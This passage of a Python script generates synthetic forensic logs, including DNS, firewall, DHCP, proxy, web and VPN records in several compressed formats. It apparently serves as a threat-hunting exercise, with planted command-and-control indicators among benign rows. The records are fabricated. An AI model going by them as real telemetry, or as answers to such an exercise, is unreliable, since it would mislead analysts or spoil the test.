            member.size, member.mtime = len(text), int(at("24 06:00:00").timestamp())
            archive.addfile(member, io.BytesIO(text.encode()))
    rows = [(time, f"{iso(time)} dhcpd: DHCPACK on {workstation()[1]}") for time in spread(80)]
    rows.append((at("24 01:14:00"), f"{iso(at('24 01:14:00'))} gw-branch-03 accept tcp [2001:0db8:0bad:00c2::0017]:443 from 2001:db8:20::31"))
    packed = subprocess.run(["zstd", "-q", "-19", "-c"], input=lines(rows).encode(), stdout=subprocess.PIPE, check=True).stdout
    write("branch-gateway.log.zst", packed)


def name_server():
    def on_the_wire(name):
        return "".join(f"({len(label)}){label}" for label in name.split(".")) + "(0)"
    def clock(time):
        return f"{time.month}/{time.day}/{time.year} {time.strftime('%I').lstrip('0')}{time.strftime(':%M:%S %p')}"
    def packet(time, address, name, kind="A", answer=False):
        flags = "R Q [8081   DR  NOERROR]" if answer else "  Q [0001   D   NOERROR]"
        way = "Snd" if answer else "Rcv"
        return (time, f"{clock(time)} 0E70 PACKET  000000{RNG.randrange(16**10):010X} UDP {way} {address:<15} {RNG.randrange(16**4):04x} {flags} {kind:<6} {on_the_wire(name)}")
    rows = []
    for time in spread(40, "23 04:00:00", "23 16:00:00"):
        address, (name, *_) = workstation()[1], RNG.choice(SITES)
        rows += [packet(time, address, name), packet(time, address, name, answer=True)]
    rows.append(packet(at("23 05:22:31"), "10.20.4.17", C2_HOST))
    head = ["DNS Server log file creation at 2/23/2022 4:00:00 AM", "Log file wrap at 2/23/2022 4:00:00 AM", "",
            "Message logging key (for packets - other items use a subset of these fields):", ""]
    write("dc01/dns.log", "".join(line + "\r\n" for line in head + lines(rows).splitlines()))


def branch_firewall():
    def row(time, source, target, action):
        when = time.strftime("%Y/%m/%d %H:%M:%S")
        rule = "internet" if action == "allow" else "known-bad"
        values = ["1", when, "012801064439", "TRAFFIC", "end" if action == "allow" else "drop", "2562", when, source, target, "0.0.0.0", "0.0.0.0", rule, "", "", "ssl", "vsys1", "inside", "outside",
                  "ethernet1/2", "ethernet1/1", "central", when, str(RNG.randrange(10**6)), "1", str(RNG.randrange(40000, 60000)), "443", "0", "0", "0x19", "tcp", action, str(RNG.randrange(500, 9000))]
        return (time, f"<14>{time.strftime('%b %e %H:%M:%S')} fw-branch-05 " + ",".join(values))
    rows = [row(time, f"10.25.0.{RNG.randrange(10, 60)}", RNG.choice(SITES)[1], "allow") for time in spread(50)]
    rows.append(row(at("24 01:20:44"), "10.25.0.31", C2_IP, "deny"))
    write("branch-05-firewall.log", lines(rows))


# --- what was rotated away: one container of each other kind -----------------------------------------------------

def xxh32(data):
    """The checksum of LZ4's frame header, for less than four bytes."""
    def rotated(value, bits):
        return (value << bits | value >> 32 - bits) & 0xFFFFFFFF
    value = (374761393 + len(data)) & 0xFFFFFFFF
    for byte in data:
        value = rotated((value + byte * 374761393) & 0xFFFFFFFF, 11) * 2654435761 & 0xFFFFFFFF
    value = (value ^ value >> 15) * 2246822519 & 0xFFFFFFFF
    value = (value ^ value >> 13) * 3266489917 & 0xFFFFFFFF
    return value ^ value >> 16


def lz4_frame(data):
    """A frame of one block, which is stored as it is."""
    descriptor = bytes([0x60, 0x40])
    return struct.pack("<I", 0x184D2204) + descriptor + bytes([xxh32(descriptor) >> 8 & 0xFF]) + struct.pack("<I", 1 << 31 | len(data)) + data + bytes(4)


def rotated():
    def day(line):
        return lines((time, line(time)) for time in spread(30, "22 04:00:00", "22 20:00:00"))
    def proxy(time):
        site, peer = RNG.choice(SITES)
        return f"{time.timestamp():.3f} {RNG.randrange(20, 900):6d} {workstation()[1]} TCP_MISS/200 {RNG.randrange(300, 90000)} GET https://{site}/ {RNG.choice(USERS)} HIER_DIRECT/{peer} text/html"
    def page(time):
        return f'192.0.2.{RNG.randrange(1, 250)} - - [{time.strftime("%d/%b/%Y:%H:%M:%S +0000")}] "GET /forms HTTP/1.1" 200 {RNG.randrange(200, 30000)} "https://{PORTAL}/" "{RNG.choice(BROWSERS)}"'
    def login(time):
        return f'<86>1 {iso(time)} vpn1 sslvpnd 771 AUTH - login of {RNG.choice(USERS)} from 192.0.2.{RNG.randrange(1, 250)}: success'
    write("squid/access.log.1.xz", lzma.compress(day(proxy).encode()))
    write("nginx/access.log.2.bz2", bz2.compress(day(page).encode()))
    write("vpn.log.1.lz4", lz4_frame(day(login).encode()))
    with tarfile.open(OUT / "branch-04.tar", "w", format=tarfile.USTAR_FORMAT) as archive:
        text = day(lambda time: f"{iso(time)} gw-branch-04 dhcpd: DHCPACK on {workstation()[1]}").encode()
        member = tarfile.TarInfo("branch-04/gateway.log")
        member.size, member.mtime = len(text), int(at("24 06:00:00").timestamp())
        archive.addfile(member, io.BytesIO(text))


def main():
    shutil.rmtree(OUT, ignore_errors=True)
    OUT.mkdir(parents=True)
    for step in [mail, squid, zeek, web, vpn_and_firewall, suricata, windows, edr, powershell, linux, cloud, collected, event_log, name_server, branch_firewall, rotated]:
        step()
    print(sum(path.stat().st_size for path in OUT.rglob("*") if path.is_file()), "bytes")


if __name__ == "__main__":
    main()
